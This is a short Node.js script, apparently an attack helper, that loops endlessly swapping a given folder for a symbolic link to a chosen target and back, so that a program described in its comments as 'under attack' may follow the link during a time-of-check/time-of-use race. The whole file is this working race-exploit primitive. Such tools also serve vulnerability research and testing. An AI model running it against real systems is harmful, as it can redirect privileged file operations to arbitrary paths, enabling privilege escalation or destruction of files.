// @ts-check
// node swapper.mjs FOLDER TARGET: swaps a folder for a link again and again, until it is killed.
import { mkdirSync, renameSync, symlinkSync, unlinkSync } from 'node:fs'

const [folder = '', target = ''] = process.argv.slice(2)
const tried = (/** @type {() => void} */ act) => {
  try {
    act()
  } catch {
    // The program under attack has something else there at this moment.
  }
}
process.stdout.write('up\n')
for (let at = 0; ; at++) {
  tried(() => renameSync(folder, `${folder}.${at % 8}`))
  tried(() => symlinkSync(target, folder))
  tried(() => unlinkSync(folder))
  tried(() => renameSync(`${folder}.${at % 8}`, folder))
  tried(() => mkdirSync(folder, { recursive: true }))
}
